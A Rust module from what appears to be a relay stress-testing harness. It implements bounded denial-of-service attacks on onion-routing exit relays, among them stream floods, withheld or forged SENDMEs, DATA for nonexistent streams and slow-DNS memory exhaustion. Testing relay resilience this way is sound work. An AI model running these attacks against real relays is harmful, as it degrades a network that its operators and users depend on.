//! Attacks by streams of an exit.

use std::time::Duration;

use anyhow::Result;
use weft_cell::reason::DestroyReason;
use weft_cell::relay::MAX_DATA;
use weft_cell::stream_msg::{Begin, BeginFlags, Sendme};
use weft_cell::{Cell, ChanCmd, RelayCmd};

use super::circuit::{Circuit, begin};
use super::definition::{Attack, NO_LEAD};
use super::peer::{BEAT, Peer};
use super::probes::Want;
use super::scene::Scene;
use super::servers::Behaviour;
use super::target::Needs;

const SHORT_OF_MEMORY: Needs = Needs {
    little_memory: true,
    ..Needs::EXIT
};

pub(super) const BEGIN_END_BEGIN: Attack = Attack {
    name: "begin-end-begin",
    what: "BEGIN, END and BEGIN of one stream in one record, again and again",
    bound: "2,000 streams a second, 4,000 in all",
    needs: Needs::EXIT,
    want: Want::Stream,
    destination: Some(Behaviour::Late),
    lead: NO_LEAD,
    run: begin_end_begin,
};

fn begin_end_begin(scene: &Scene<'_>) -> Result<()> {
    const MOST: u16 = 4000;
    const AT_ONCE: u16 = 20;
    let to = begin(scene.destination()?);
    let mut peer = scene.relay(0)?;
    let mut circuit = Circuit::create_fast(&mut peer, 1)?;
    for first in (1..=MOST).step_by(AT_ONCE.into()) {
        if scene.is_over() {
            break;
        }
        let mut cells = Vec::new();
        for stream in first..first + AT_ONCE {
            for command in [RelayCmd::BEGIN, RelayCmd::END, RelayCmd::BEGIN] {
                let data: &[u8] = if command == RelayCmd::BEGIN {
                    &to
                } else {
                    &[6]
                };
                let cell = circuit.cell(command, stream, data, &mut peer.rng)?;
                cells.extend_from_slice(cell.as_bytes());
            }
        }
        scene.send(&mut peer, &cells)?;
        scene.did(AT_ONCE.into());
        circuit.drain(&mut peer, &mut |_| {})?;
        scene.pause(Duration::from_millis(10));
    }
    idle(scene, &mut peer, &mut circuit)
}

pub(super) const NEVER_SENDME: Attack = Attack {
    name: "never-sendme",
    what: "One circuit with many streams from a fast server, and never a SENDME",
    bound: "1,024 streams, at most 256 KiB of each",
    needs: SHORT_OF_MEMORY,
    want: Want::Stream,
    destination: Some(Behaviour::Flood(256 << 10)),
    lead: Duration::from_secs(1),
    run: never_sendme,
};

fn never_sendme(scene: &Scene<'_>) -> Result<()> {
    let to = begin(scene.destination()?);
    scene.again(|| {
        let mut peer = scene.relay(0)?;
        let mut circuit = Circuit::create_fast(&mut peer, 1)?;
        circuit.acknowledges = false;
        for stream in 1..=1024 {
            if scene.is_over() {
                return Ok(());
            }
            let cell = circuit.cell(RelayCmd::BEGIN, stream, &to, &mut peer.rng)?;
            scene.send(&mut peer, cell.as_bytes())?;
            scene.did(1);
            circuit.drain(&mut peer, &mut |_| {})?;
        }
        idle(scene, &mut peer, &mut circuit)
    });
    Ok(())
}

pub(super) const DRAINED_STREAMS: Attack = Attack {
    name: "drained-streams",
    what: "Streams that are each sent 245 kB for a server that reads late, and then stay open empty",
    bound: "320 streams",
    needs: SHORT_OF_MEMORY,
    want: Want::Stream,
    destination: Some(Behaviour::Late),
    lead: Duration::from_secs(8),
    run: drained_streams,
};

fn drained_streams(scene: &Scene<'_>) -> Result<()> {
    const STREAMS: u16 = 320;
    let to = begin(scene.destination()?);
    let mut peer = scene.relay(0)?;
    let mut circuit = Circuit::create_fast(&mut peer, 1)?;
    for stream in 1..=STREAMS {
        let mut connected = false;
        circuit.send(&mut peer, RelayCmd::BEGIN, stream, &to)?;
        while !connected && !scene.is_over() {
            peer.pump(BEAT)?;
            circuit.drain(&mut peer, &mut |message| {
                connected |= message.stream == stream && message.command == RelayCmd::CONNECTED;
            })?;
        }
        // A stream's window is 500 cells.
        send_data(scene, &mut peer, &mut circuit, stream, 490)?;
        scene.did(1);
    }
    if let Some(server) = scene.destination {
        server.read_now(true);
    }
    idle(scene, &mut peer, &mut circuit)
}

/// Sends DATA cells on a stream, within the circuit's window.
fn send_data(
    scene: &Scene<'_>,
    peer: &mut Peer,
    circuit: &mut Circuit,
    stream: u16,
    count: usize,
) -> Result<()> {
    let mut left = count;
    while left > 0 && !scene.is_over() {
        let now = left
            .min(30)
            .min(usize::try_from(circuit.window).unwrap_or(0));
        let mut cells = Vec::new();
        for _ in 0..now {
            let cell = circuit.cell(RelayCmd::DATA, stream, &[7; MAX_DATA], &mut peer.rng)?;
            cells.extend_from_slice(cell.as_bytes());
        }
        left -= now;
        scene.send(peer, &cells)?;
        if now == 0 {
            peer.pump(BEAT)?;
        }
        circuit.drain(peer, &mut |_| {})?;
    }
    Ok(())
}

pub(super) const SLOW_DNS_POST: Attack = Attack {
    name: "slow-dns-post",
    what: "BEGIN for a name whose server is silent, and 245 kB of DATA before any answer",
    bound: "the rate; 100 streams on each circuit, 20 circuits",
    needs: SHORT_OF_MEMORY,
    want: Want::Name,
    destination: None,
    lead: Duration::from_secs(2),
    run: slow_dns_post,
};

fn slow_dns_post(scene: &Scene<'_>) -> Result<()> {
    let mut number = 0;
    let mut link = 0;
    scene.again(|| {
        link += 1;
        let mut peer = scene.relay(link)?;
        for id in 1..=20 {
            let mut circuit = Circuit::create_fast(&mut peer, id)?;
            for stream in 1..=100 {
                number += 1;
                let name = silent_name(number)?;
                circuit.send(&mut peer, RelayCmd::BEGIN, stream, &name)?;
                send_data(scene, &mut peer, &mut circuit, stream, 490)?;
                scene.did(1);
                if scene.is_over() {
                    return Ok(());
                }
            }
        }
        Ok(())
    });
    Ok(())
}

/// BEGIN's data for a name that the name server does not answer.
pub(super) fn silent_name(number: u64) -> Result<Vec<u8>> {
    let begin = Begin {
        target: format!("silent.{number}.example").into_bytes(),
        port: 80,
        flags: BeginFlags::default(),
    };
    Ok(begin.encode()?)
}

pub(super) const DATA_FOR_NO_STREAM: Attack = Attack {
    name: "data-for-no-stream",
    what: "DATA for streams that never were, without end and past every window",
    bound: "the rate",
    needs: Needs::EXIT,
    want: Want::Stream,
    destination: None,
    lead: NO_LEAD,
    run: data_for_no_stream,
};

fn data_for_no_stream(scene: &Scene<'_>) -> Result<()> {
    let mut link = 0;
    scene.again(|| {
        link += 1;
        let mut peer = scene.relay(link)?;
        let mut circuit = Circuit::create_fast(&mut peer, 1)?;
        let mut stream = 0u16;
        while !scene.is_over() {
            let mut cells = Vec::new();
            for _ in 0..30 {
                stream = stream.checked_add(1).unwrap_or(1);
                let cell = circuit.cell(RelayCmd::DATA, stream, &[7; MAX_DATA], &mut peer.rng)?;
                cells.extend_from_slice(cell.as_bytes());
            }
            scene.send(&mut peer, &cells)?;
            scene.did(30);
            circuit.drain(&mut peer, &mut |_| {})?;
        }
        Ok(())
    });
    Ok(())
}

pub(super) const END_STREAMS: Attack = Attack {
    name: "end-streams",
    what: "A circuit with as many streams as fit, destroyed; and again",
    bound: "16,384 streams at a time, or half of the file limit",
    needs: Needs::EXIT,
    want: Want::Stream,
    destination: Some(Behaviour::Late),
    lead: Duration::from_secs(1),
    run: end_streams,
};

fn end_streams(scene: &Scene<'_>) -> Result<()> {
    let to = begin(scene.destination()?);
    let count = u16::try_from(scene.max_connections)
        .unwrap_or(u16::MAX)
        .min(16_384);
    let mut peer = scene.relay(0)?;
    let mut id = 0;
    scene.again(|| {
        id += 1;
        let mut circuit = Circuit::create_fast(&mut peer, id)?;
        let mut connected = 0;
        for first in (1..=count).step_by(16) {
            let mut cells = Vec::new();
            for stream in first..(first + 16).min(count + 1) {
                let cell = circuit.cell(RelayCmd::BEGIN, stream, &to, &mut peer.rng)?;
                cells.extend_from_slice(cell.as_bytes());
            }
            scene.send(&mut peer, &cells)?;
            circuit.drain(&mut peer, &mut |message| {
                connected += u64::from(message.command == RelayCmd::CONNECTED);
            })?;
            if scene.is_over() {
                return Ok(());
            }
        }
        // Most are connected by now; the others are ended while they are being connected.
        scene.pause(Duration::from_millis(100));
        circuit.drain(&mut peer, &mut |message| {
            connected += u64::from(message.command == RelayCmd::CONNECTED);
        })?;
        scene.did(connected);
        let mut destroy = Cell::new(circuit.id, ChanCmd::DESTROY);
        if let Some(reason) = destroy.body_mut().first_mut() {
            *reason = DestroyReason::FINISHED.0;
        }
        scene.send(&mut peer, destroy.as_bytes())
    });
    Ok(())
}

pub(super) const STREAM_FLOOD: Attack = Attack {
    name: "stream-flood",
    what: "BEGIN to a server that is up, and END at once, on four circuits",
    bound: "4,000 streams a second",
    needs: Needs::EXIT,
    want: Want::Stream,
    destination: Some(Behaviour::Answer(100)),
    lead: NO_LEAD,
    run: stream_flood,
};

fn stream_flood(scene: &Scene<'_>) -> Result<()> {
    let to = begin(scene.destination()?);
    let mut link = 0;
    scene.again(|| {
        link += 1;
        let mut peer = scene.relay(link)?;
        let mut circuits = (1..=4)
            .map(|id| Circuit::create_fast(&mut peer, id))
            .collect::<Result<Vec<_>>>()?;
        let mut stream = 0u16;
        while !scene.is_over() {
            let mut cells = Vec::new();
            for _ in 0..10 {
                stream = stream.checked_add(1).unwrap_or(1);
                for circuit in &mut circuits {
                    let begin = circuit.cell(RelayCmd::BEGIN, stream, &to, &mut peer.rng)?;
                    let end = circuit.cell(RelayCmd::END, stream, &[6], &mut peer.rng)?;
                    cells.extend_from_slice(begin.as_bytes());
                    cells.extend_from_slice(end.as_bytes());
                }
            }
            scene.send_blindly(&mut peer, &cells)?;
            scene.did(40);
            scene.pause(Duration::from_millis(10));
        }
        Ok(())
    });
    Ok(())
}

pub(super) const SNIPER_SENDMES: Attack = Attack {
    name: "sniper-sendmes",
    what: "Circuits whose client stops reading from a fast server, but keeps sending SENDMEs",
    bound: "64 circuits; 100 SENDMEs a second for each",
    needs: SHORT_OF_MEMORY,
    want: Want::Stream,
    destination: Some(Behaviour::Flood(1 << 30)),
    lead: Duration::from_secs(2),
    run: sniper_sendmes,
};

fn sniper_sendmes(scene: &Scene<'_>) -> Result<()> {
    let to = begin(scene.destination()?);
    let mut link = 0;
    scene.again(|| {
        link += 1;
        let mut peer = scene.relay(link)?;
        let mut circuits = (1..=64)
            .map(|id| Circuit::create_fast(&mut peer, id))
            .collect::<Result<Vec<_>>>()?;
        for circuit in &mut circuits {
            circuit.send(&mut peer, RelayCmd::BEGIN, 1, &to)?;
            scene.did(1);
        }
        peer.pump(Duration::ZERO)?;
        // A peer that does not read the cells it acknowledges cannot prove that it did: version 0.
        let sendme = Sendme {
            version: 0,
            seen: None,
        };
        let sendme = sendme.encode();
        while !scene.is_over() {
            scene.pause(Duration::from_millis(100));
            let mut cells = Vec::new();
            for circuit in &mut circuits {
                for stream in [0, 1, 1] {
                    let cell = circuit.cell(RelayCmd::SENDME, stream, &sendme, &mut peer.rng)?;
                    cells.extend_from_slice(cell.as_bytes());
                }
            }
            if scene.spend(cells.len()) {
                peer.queue(&cells)?;
                peer.pump_deaf(BEAT)?;
            }
        }
        Ok(())
    });
    Ok(())
}

/// Keeps a circuit until the end, and reads what comes.
fn idle(scene: &Scene<'_>, peer: &mut Peer, circuit: &mut Circuit) -> Result<()> {
    while !scene.is_over() {
        peer.pump(BEAT)?;
        circuit.drain(peer, &mut |_| {})?;
    }
    Ok(())
}
